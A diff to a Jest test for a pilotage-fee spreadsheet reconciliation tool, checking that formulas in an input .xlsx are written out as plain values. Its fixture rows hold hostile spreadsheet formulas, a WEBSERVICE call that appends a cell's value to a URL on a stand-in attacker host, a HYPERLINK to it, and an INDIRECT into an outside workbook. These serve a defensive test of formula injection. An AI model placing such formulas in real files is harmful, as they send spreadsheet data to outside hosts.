@@ -361,27 +361,27 @@ describe("hudson-pilotage reconcile, .xlsx in and out", () => {
 });
 
 describe("hudson-pilotage reconcile, an .xlsx input's own formulas and layout", () => {
-  test("formulas on the input sheet are kept, and rows stay at their row numbers across an empty row", async () => {
+  test("the input's formulas are copied as their values, never as formulas (WEBSERVICE, HYPERLINK, INDIRECT to another book); rows keep their numbers across an empty row", async () => {
     const workbook = new ExcelJS.Workbook();
     const sheet = workbook.addWorksheet("Calls");
-    sheet.addRow(["Units", "Section", "Date", "Base", "Surcharge", "Billed"]);
+    sheet.addRow(["Units", "Section", "Date", "Base", "Surcharge", "Billed", "Link", "Lookup"]);
     // 40 units, Section 1, 2026: base $1,070.58, surcharge (0–50 band) $300.00 — billed as their sum by a formula.
-    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D2+E2", result: 1370.58 }]);
+    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D2+E2", result: 1370.58 }, { formula: 'HYPERLINK("http://evil.invalid","x")', result: "x" }, { formula: 'WEBSERVICE("http://evil.invalid/?"&A2)', result: "ok" }]);
     sheet.addRow([]);
-    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D4+E4", result: 1370.58 }]);
+    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D4+E4", result: 1370.58 }, null, { formula: `INDIRECT("'[evil.xlsx]S'"&CHAR(33)&"A1")`, result: 7 }]);
     await workbook.xlsx.writeFile(inFolder("calls.xlsx"));
     fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
-    const out = run("reconcile", "calls.xlsx", "-o", "checked.xlsx", "--board-rates", "rates.csv", "--map", "Billed=ignore", "--json");
+    const out = run("reconcile", "calls.xlsx", "-o", "checked.xlsx", "--board-rates", "rates.csv", "--map", "Billed=ignore", "--map", "Link=ignore", "--map", "Lookup=ignore", "--json");
     expect(out.stderr).toBe("");
     expect(out.code).toBe(0);
     expect(JSON.parse(out.stdout).summary).toMatchObject({ rows: 2, rowsChecked: 2, rowsFlagged: 0, billed: "2741.16", computed: "2741.16" });
     await expectFormulasMatchCache(inFolder("checked.xlsx"));
     const result = (await readWorkbook(inFolder("checked.xlsx"))).getWorksheet("Reconciliation") as ExcelJS.Worksheet;
-    expect(result.getCell("F2").formula).toBe("D2+E2");
-    expect(result.getCell("F4").formula).toBe("D4+E4");
+    for (const address of ["F2", "G2", "H2", "F4", "H4"]) expect({ address, formula: result.getCell(address).formula }).toEqual({ address, formula: undefined });
+    expect([result.getCell("F2").value, result.getCell("G2").value, result.getCell("H2").value, result.getCell("H4").value]).toEqual([1370.58, "x", "ok", 7]);
     expect(result.getCell("A3").value).toBeNull();
     // The computed base of row 4 refers to row 4's own cells.
-    expect(result.getCell("G4").formula).toBe("NYPILOT.HUDSON_BASE_FEE(A4,B4,C4)");
+    expect(result.getCell("I4").formula).toBe("NYPILOT.HUDSON_BASE_FEE(A4,B4,C4)");
   });
 });
 
